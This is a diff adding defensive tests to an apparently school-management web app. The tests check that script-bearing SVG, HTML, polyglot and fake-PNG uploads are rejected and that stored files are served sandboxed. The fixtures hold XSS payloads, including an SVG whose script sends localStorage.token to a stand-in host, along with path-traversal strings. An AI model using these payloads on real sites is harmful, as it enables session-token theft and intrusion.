@@ -114,6 +114,110 @@ describe('school image uploads', () => {
   });
 });
 
+describe('images that could run script', () => {
+  const svg = Buffer.from(
+    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("//x.example/?"+localStorage.token)</script></svg>',
+  );
+  const html = Buffer.from('<!doctype html><html><body><script>alert(document.domain)</script></body></html>');
+  // An HTML page that an image reader takes for an SVG drawing (it finds `<svg width height>` early on).
+  const polyglot = Buffer.from(
+    '<html><body><svg width="10" height="10"></svg><script>alert(document.domain)</script></body></html>',
+  );
+  // A PNG signature with a page behind it instead of an image header.
+  const fakePng = Buffer.concat([png(1, 1).subarray(0, 8), Buffer.from('<html><script>alert(1)</script></html>')]);
+  const typeRule = 'This file must be a PNG, JPEG, GIF or WebP image.';
+
+  it.each([
+    ['smallLogo', 'an SVG drawing sent as image/svg+xml', svg, 'image/svg+xml'],
+    ['bigLogo', 'an SVG drawing sent as image/png', svg, 'image/png'],
+    ['smallLogo', 'an HTML page', html, 'text/html'],
+    ['bigLogo', 'an HTML page that reads as an SVG', polyglot, 'image/png'],
+    ['smallLogo', 'a page behind a PNG signature', fakePng, 'image/png'],
+  ])('refuses as %s %s with 422 naming the field', async (kind, _label, body, type) => {
+    const high = ids['Demo High School'] as number;
+    const before = await json<Record<string, unknown>>(await server.call(`/api/schools/${high}`, { token: school }));
+    const response = await upload(school, high, kind, body, type);
+    expect(response.status).toBe(422);
+    expect((await json<Problem>(response)).violations).toEqual([
+      { propertyPath: kind, message: typeRule, code: 'files.image_type' },
+    ]);
+    const after = await json<Record<string, unknown>>(await server.call(`/api/schools/${high}`, { token: school }));
+    expect(after[kind]).toEqual(before[kind]);
+  });
+
+  it('refuses an SVG or HTML login background, whatever type or name it is sent with', async () => {
+    const high = ids['Demo High School'] as number;
+    for (const [body, type] of [
+      [svg, 'image/svg+xml'],
+      [svg, 'image/png'],
+      [html, 'image/jpeg'],
+      [polyglot, 'image/webp'],
+    ] as const) {
+      const response = await server.call(`/api/schools/${high}/configuration-images/loginScreenBgImage?name=bg.png`, {
+        method: 'PUT',
+        token: school,
+        headers: { 'content-type': type, 'content-disposition': 'attachment; filename="bg.png"' },
+        body,
+      });
+      expect(response.status, type).toBe(422);
+      expect((await json<Problem>(response)).violations).toEqual([
+        { propertyPath: 'loginScreenBgImage', message: typeRule, code: 'files.image_type' },
+      ]);
+    }
+  });
+
+  it('serves a stored image inline with a sandboxing policy, nosniff and its checked type', async () => {
+    const high = ids['Demo High School'] as number;
+    const { smallLogo } = await json<{ smallLogo: string }>(await upload(school, high, 'smallLogo', png(64, 64)));
+    expect(smallLogo).toMatch(/\.png\?v=\d+$/);
+    const read = await server.call(smallLogo);
+    expect(read.status).toBe(200);
+    expect(read.headers.get('content-type')).toBe('image/png');
+    expect(read.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
+    expect(read.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(read.headers.get('content-disposition')).toBeNull();
+  });
+
+  it.each(['/files/%25', '/files/%', '/files/%00', '/files/schools/1/images/..%2f..%2fetc', '/files/%c0%ae%c0%ae/x'])(
+    'answers %s with a 4xx, never a 500',
+    async (path) => {
+      const response = await server.call(path);
+      expect([400, 404]).toContain(response.status);
+    },
+  );
+});
+
+describe('files stored before the upload rules', () => {
+  const dataDir = mkdtempSync(join(tmpdir(), 'kampus-legacy-'));
+  let legacy: TestServer;
+  beforeAll(async () => {
+    const store = localFileStore(join(dataDir, 'files'));
+    await store.put(
+      'schools/1/images/smallLogo.svg',
+      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+      'image/svg+xml',
+    );
+    await store.put('schools/1/images/note.txt', Buffer.from('<script>alert(1)</script>'), 'text/plain');
+    legacy = await startServer({ DATA_DIR: dataDir }, { reset: false });
+  });
+  afterAll(async () => {
+    await legacy.close();
+    rmSync(dataDir, { recursive: true, force: true });
+  });
+
+  it.each(['schools/1/images/smallLogo.svg', 'schools/1/images/note.txt'])(
+    'serves %s as a download that cannot run, never as a page or a drawing',
+    async (key) => {
+      const read = await legacy.call(`/files/${key}`);
+      expect(read.status).toBe(200);
+      expect(read.headers.get('content-type')).toBe('application/octet-stream');
+      expect(read.headers.get('content-disposition')).toMatch(/^attachment/);
+      expect(read.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
+      expect(read.headers.get('x-content-type-options')).toBe('nosniff');
+    },
+  );
+});
+
 describe('configuration form images', () => {
   const uploadConfig = (token: string, schoolId: number, key: string, body: Buffer) =>
     server.call(`/api/schools/${schoolId}/configuration-images/${key}`, {
